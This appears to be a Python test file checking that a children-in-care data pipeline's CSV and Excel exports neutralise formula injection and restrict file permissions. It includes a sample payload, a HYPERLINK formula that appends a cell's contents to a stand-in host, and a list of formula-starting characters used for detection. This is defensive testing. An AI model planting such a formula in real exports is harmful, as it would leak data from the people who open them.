"""Names that come from files and would be run as formulas by whoever opens an export."""

import csv
import os
import stat
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from typer.testing import CliRunner

from alongside.cli import app
from alongside.kernel.identity import Role, Viewer
from alongside.pipeline.load import load
from alongside.store.home import Home

ATTACK = '=HYPERLINK("http://example.invalid"&A1)'
BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "＝")


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Home:
    """A home of which a place and a cell that cannot be read begin like formulas."""
    folder = tmp_path_factory.mktemp("formulas")
    home = Home.make(folder / "home")
    returns = folder / "2024-25"
    returns.mkdir()
    children = "".join(f"A{n},1,01/02/2014,WBRI,,,\n" for n in range(30))
    (returns / "header.csv").write_text(
        f"CHILD,SEX,DOB,ETHNIC,UPN,MOTHER,MC_DOB\n{children}B1,1,=1+1,WBRI,,,\n"
    )
    episodes = "".join(f"A{n},01/06/2024,S,C2,N1,U6,PR1,,,,,,\n" for n in range(30))
    (returns / "episodes.csv").write_text(
        "CHILD,DECOM,RNE,LS,CIN,PLACE,PLACE_PROVIDER,DEC,REC,REASON_PLACE_CHANGE,"
        f"HOME_POST,PL_POST,URN\n{episodes}"
    )
    with (returns / "child_places.csv").open("w", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["child_id", "area"])
        writer.writerows([f"A{n}", ATTACK] for n in range(30))
    by = Viewer("Ada Example", Role.ANALYST)
    load([returns], home=home, authority="Exampleshire", by=by, as_at=date(2025, 3, 31))
    return home


def said(*words: object) -> None:
    result = CliRunner().invoke(app, [str(word) for word in words])
    assert result.exception is None, result.exception


def cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as file:
        return [cell for row in csv.reader(file) for cell in row]


def assert_harmless(found: list[str]) -> None:
    assert not [cell for cell in found if cell.startswith(BEGINNINGS) and not _is_number(cell)]


def _is_number(cell: str) -> bool:
    return cell.lstrip("-").replace(".", "", 1).isdigit()


def test_the_tables_run_nothing(home: Home, tmp_path: Path) -> None:
    said("export", "tables", "--out", tmp_path, "--home", home.path)
    found = cells(tmp_path / "counts.csv") + cells(tmp_path / "groups.csv")
    assert f"'{ATTACK}" in found
    assert_harmless(found)


def test_results_run_nothing(home: Home, tmp_path: Path) -> None:
    asked = ("results", "children_in_care_rate", "--by", "place", "--home", home.path)
    said(*asked, "--csv", "--out", tmp_path / "a.csv")
    assert f"'{ATTACK}" in cells(tmp_path / "a.csv")
    assert_harmless(cells(tmp_path / "a.csv"))
    said(*asked, "--xlsx", "--out", tmp_path / "a.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "a.xlsx")["Results"]
    groups = [row[2] for row in sheet.iter_rows(min_row=4)]
    assert {cell.data_type for cell in groups if cell.value == ATTACK} == {"s"}


def test_the_faults_run_nothing_and_are_their_owners_alone(home: Home, tmp_path: Path) -> None:
    out = tmp_path / "faults.csv"
    out.write_text("made before, for everybody to read")
    out.chmod(0o644)
    said("export", "faults", "--out", out, "--home", home.path)
    assert "'=1+1" in cells(out)
    assert_harmless(cells(out))
    if os.name != "nt":
        assert stat.S_IMODE(out.stat().st_mode) == 0o600
